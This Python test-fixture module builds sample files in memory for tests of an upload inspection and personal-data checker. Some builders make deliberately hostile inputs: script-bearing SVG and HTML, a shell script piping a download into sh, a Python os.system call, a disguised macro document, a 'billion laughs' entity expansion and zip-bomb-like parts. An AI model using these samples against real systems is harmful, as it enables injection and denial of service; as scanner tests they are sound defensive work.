"""Small, real sample files for the evidence inspection and personal-data tests.

Each ``*_bytes`` builder returns the content of a file of one kind, built in memory from the
standard library (plus openpyxl, Pillow and WeasyPrint, which the project already installs);
``write_sample`` puts it on disk under the name the test wants to upload it as.
"""

import gzip
import hashlib
import io
import struct
import zipfile
import zlib
from collections.abc import Sequence
from pathlib import Path
from xml.sax.saxutils import escape

from openpyxl import Workbook
from PIL import Image

DEFAULT_TEXT = "Peer support programme: activation within 24 hours, available 24/7."


def write_sample(directory: Path, filename: str, content: bytes) -> Path:
    path = directory / filename
    path.write_bytes(content)
    return path


def _zip(parts: Sequence[tuple[str, bytes | str]], *, stored_first: bool = False) -> bytes:
    """A zip package with the parts in the given order (the first one stored if asked)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as package:
        for index, (name, data) in enumerate(parts):
            compression = zipfile.ZIP_STORED if stored_first and index == 0 else None
            package.writestr(name, data, compress_type=compression)
    return buffer.getvalue()


# --- PDF ----------------------------------------------------------------------------------------


def pdf_bytes(text: str = DEFAULT_TEXT) -> bytes:
    """A one-page PDF with ``text`` in Helvetica, with a correct cross-reference table."""
    literal = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    stream = f"BT /F1 12 Tf 50 750 Td ({literal}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>"
        ),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def rendered_pdf_bytes(text: str = DEFAULT_TEXT) -> bytes:
    """A PDF as real tools make them: rendered by WeasyPrint, with embedded font subsets."""
    from weasyprint import HTML  # noqa: PLC0415 - slow to import, only a few tests need it

    return HTML(string=f"<p>{escape(text)}</p>").write_pdf()


# --- Office Open XML ------------------------------------------------------------------------------

_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="{target}"/></Relationships>'
)


def _content_types(overrides: dict[str, str], *, extra_defaults: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        + extra_defaults
        + "".join(
            f'<Override PartName="{name}" ContentType="{content_type}"/>'
            for name, content_type in overrides.items()
        )
        + "</Types>"
    )


def _runs(text: str) -> str:
    """A Word paragraph's runs, split in the middle as Word does after an edit."""
    middle = len(text) // 2
    return "".join(
        f'<w:r><w:t xml:space="preserve">{escape(part)}</w:t></w:r>'
        for part in (text[:middle], text[middle:])
        if part
    )


def docx_bytes(
    paragraphs: Sequence[str] = (DEFAULT_TEXT,),
    *,
    vba_project: bool = False,
    macro_content_type: bool = False,
) -> bytes:
    """A Word document; ``vba_project`` / ``macro_content_type`` make it a .docm in disguise."""
    main_type = (
        "application/vnd.ms-word.document.macroEnabled.main+xml"
        if macro_content_type
        else "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    )
    body = "".join(f"<w:p>{_runs(paragraph)}</w:p>" for paragraph in paragraphs)
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body>{body}</w:body></w:document>"
    )
    parts: list[tuple[str, bytes | str]] = [
        ("[Content_Types].xml", _content_types({"/word/document.xml": main_type})),
        ("_rels/.rels", _RELS.format(target="word/document.xml")),
        ("word/document.xml", document),
    ]
    if vba_project:
        parts.append(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504))
    return _zip(parts)


def xlsx_bytes(rows: Sequence[Sequence[object]] = ((DEFAULT_TEXT,),)) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def pptx_bytes(slides: Sequence[str] = (DEFAULT_TEXT,)) -> bytes:
    ns = (
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    )
    presentation = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:presentation {ns}>'
        "<p:sldIdLst>"
        + "".join(f'<p:sldId id="{256 + i}" r:id="rId{i + 1}"/>' for i in range(len(slides)))
        + "</p:sldIdLst></p:presentation>"
    )
    parts: list[tuple[str, bytes | str]] = [
        (
            "[Content_Types].xml",
            _content_types(
                {
                    "/ppt/presentation.xml": "application/vnd.openxmlformats-officedocument."
                    "presentationml.presentation.main+xml",
                    **{
                        f"/ppt/slides/slide{i + 1}.xml": "application/vnd.openxmlformats-"
                        "officedocument.presentationml.slide+xml"
                        for i in range(len(slides))
                    },
                }
            ),
        ),
        ("_rels/.rels", _RELS.format(target="ppt/presentation.xml")),
        ("ppt/presentation.xml", presentation),
    ]
    for i, text in enumerate(slides):
        slide = (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:sld {ns}><p:cSld>'
            "<p:spTree><p:sp><p:txBody><a:p>"
            f"<a:r><a:t>{escape(text)}</a:t></a:r>"
            "</a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
        )
        parts.append((f"ppt/slides/slide{i + 1}.xml", slide))
    return _zip(parts)


# --- OpenDocument ---------------------------------------------------------------------------------

_ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
)


def _odf(mimetype: str, body: str) -> bytes:
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODF_NS} '
        f'office:version="1.3"><office:body>{body}</office:body></office:document-content>'
    )
    manifest = (
        f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest {_ODF_NS} '
        'manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    return _zip(
        [("mimetype", mimetype), ("content.xml", content), ("META-INF/manifest.xml", manifest)],
        stored_first=True,
    )


def odt_bytes(paragraphs: Sequence[str] = (DEFAULT_TEXT,)) -> bytes:
    body = "".join(
        # A span in the middle, as word processors write formatting changes.
        f"<text:p>{escape(p[: len(p) // 2])}<text:span>{escape(p[len(p) // 2 :])}</text:span>"
        "</text:p>"
        for p in paragraphs
    )
    return _odf("application/vnd.oasis.opendocument.text", f"<office:text>{body}</office:text>")


def ods_bytes(rows: Sequence[Sequence[str]] = ((DEFAULT_TEXT,),)) -> bytes:
    table_rows = "".join(
        "<table:table-row>"
        + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{escape(cell)}</text:p>'
            "</table:table-cell>"
            for cell in row
        )
        + "</table:table-row>"
        for row in rows
    )
    return _odf(
        "application/vnd.oasis.opendocument.spreadsheet",
        f'<office:spreadsheet><table:table table:name="Sheet1">{table_rows}</table:table>'
        "</office:spreadsheet>",
    )


# --- Images ---------------------------------------------------------------------------------------


def png_bytes() -> bytes:
    """A valid 1x1 white PNG, written chunk by chunk."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        checksum = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1x1, 8-bit RGB
    pixels = zlib.compress(b"\x00\xff\xff\xff")  # filter byte + one white pixel
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def jpeg_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (2, 2), "white").save(buffer, "JPEG")
    return buffer.getvalue()


def svg_bytes(*, xml_declaration: bool = True) -> bytes:
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>\n"
    )
    return (b'<?xml version="1.0" encoding="UTF-8"?>\n' + svg) if xml_declaration else svg


# --- Text -----------------------------------------------------------------------------------------


def csv_bytes(
    rows: Sequence[Sequence[str]] = (
        ("session", "date", "attendees"),
        ("Peer supporter refresher", "2025-03-12", "14"),
        ("Psychological first aid", "2025-04-09", "11"),
    ),
) -> bytes:
    return "".join(",".join(row) + "\r\n" for row in rows).encode()


def txt_bytes(text: str = DEFAULT_TEXT, *, encoding: str = "utf-8") -> bytes:
    return text.encode(encoding)


def html_bytes() -> bytes:
    return (
        b"<!DOCTYPE html>\n<html><head><title>Policy</title></head>"
        b"<body><p>Peer support policy</p><script>alert(1)</script></body></html>\n"
    )


def xml_bytes() -> bytes:
    return b'<?xml version="1.0" encoding="UTF-8"?>\n<policy><title>Peer support</title></policy>\n'


# --- Programs and archives ------------------------------------------------------------------------


def elf_bytes() -> bytes:
    """The header of a 64-bit x86-64 Linux executable."""
    ident = b"\x7fELF\x02\x01\x01" + b"\0" * 9
    header = struct.pack(
        "<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0
    )  # ET_EXEC, EM_X86_64, version, entry, phoff, shoff, flags, sizes and counts
    return ident + header + b"\0" * 512


def pe_bytes() -> bytes:
    """A Windows PE executable: DOS stub header pointing at a PE header."""
    dos = bytearray(b"MZ" + b"\0" * 126)
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    optional = struct.pack("<H", 0x10B) + b"\0" * (0xE0 - 2)
    return bytes(dos) + coff + optional + b"\0" * 256


def shell_script_bytes() -> bytes:
    return b"#!/bin/sh\ncurl -s https://example.invalid/x | sh\n"


def python_script_bytes() -> bytes:
    return b"#!/usr/bin/env python3\nimport os\nos.system('id')\n"


def zip_bytes() -> bytes:
    return _zip([("policy.txt", DEFAULT_TEXT), ("rota.csv", "name,shift\r\n")])


def gzip_bytes() -> bytes:
    return gzip.compress(csv_bytes(), mtime=0)


# --- Awkward packages -----------------------------------------------------------------------------


def repack(package: bytes, *, first: Sequence[str] = (), compress_all: bool = True) -> bytes:
    """The same package with the ``first`` entries moved to the front, every entry deflated.

    Real tools do not always write ``[Content_Types].xml`` or ``mimetype`` first; libmagic then
    sees only a zip, and the inspection must still recognise the document.
    """
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        entries = [(info.filename, source.read(info)) for info in source.infolist()]
    entries.sort(key=lambda entry: entry[0] not in first)
    buffer = io.BytesIO()
    compression = zipfile.ZIP_DEFLATED if compress_all else zipfile.ZIP_STORED
    with zipfile.ZipFile(buffer, "w", compression=compression) as target:
        for name, data in entries:
            target.writestr(name, data)
    return buffer.getvalue()


def with_leading_thumbnail(package: bytes) -> bytes:
    """An Office package that starts with a 16 KiB thumbnail, as some editors write them.

    libmagic only sees the first 8 KiB, so it cannot find the document parts and says zip.
    """
    thumbnail = hashlib.shake_256(b"thumbnail").digest(16 * 1024)  # incompressible
    return repack(
        with_part(package, "docProps/thumbnail.jpeg", thumbnail), first=["docProps/thumbnail.jpeg"]
    )


def with_part(package: bytes, name: str, data: bytes | str) -> bytes:
    """The package with one more entry (or an entry replaced)."""
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        entries = [
            (info.filename, source.read(info))
            for info in source.infolist()
            if info.filename != name
        ]
    return _zip([*entries, (name, data)])


def entity_expansion_docx_bytes() -> bytes:
    """A "billion laughs" document.xml: a DTD whose entities expand exponentially."""
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    )
    document = (
        f'<?xml version="1.0"?><!DOCTYPE w:document [{entities}]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
    )
    return with_part(docx_bytes(), "word/document.xml", document)


def oversized_part_docx_bytes(size: int) -> bytes:
    """A Word document whose document.xml inflates to ``size`` bytes (a small zip bomb)."""
    filler = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>"
    body = filler * (size // len(filler) + 1)
    document = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body>" + body + b"</w:body></w:document>"
    )
    return with_part(docx_bytes(), "word/document.xml", document)


def oversized_content_types_docx_bytes() -> bytes:
    """A Word document whose [Content_Types].xml is far too large to be real."""
    padding = "<!--" + " " * (2 * 1024 * 1024) + "-->"
    package = docx_bytes()
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        content_types = source.read("[Content_Types].xml").decode()
    return with_part(package, "[Content_Types].xml", content_types + padding)
